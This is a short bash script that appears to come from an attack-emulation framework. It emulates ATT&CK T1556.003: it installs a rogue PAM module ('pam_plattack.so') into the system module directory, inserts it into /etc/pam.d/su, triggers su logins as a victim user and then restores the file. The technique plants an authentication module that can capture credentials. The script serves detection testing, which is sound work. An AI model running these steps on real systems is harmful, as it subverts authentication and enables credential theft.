#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1556.003
# tactic: credential-access
# what: a rogue PAM module installed into the module directory and added to /etc/pam.d/su, then loaded by a login with su (restored at once)
. "$AT_LIB"
libdir=/usr/lib/x86_64-linux-gnu/security
[ -d "$libdir" ] || libdir=/lib/security
at_undo "rm -f $libdir/pam_plattack.so"
at_backup /etc/pam.d/su
cp "$AT_ART/pam_plattack.so" "$libdir/pam_plattack.so"
sed -i '1i auth optional pam_plattack.so # plattack' /etc/pam.d/su
su -s /bin/sh "$AT_VICTIM" -c 'su -s /bin/true root' </dev/null >/dev/null 2>&1 || true
su -s /bin/true "$AT_VICTIM"
cp "$AT_TMP/backup._etc_pam.d_su" /etc/pam.d/su
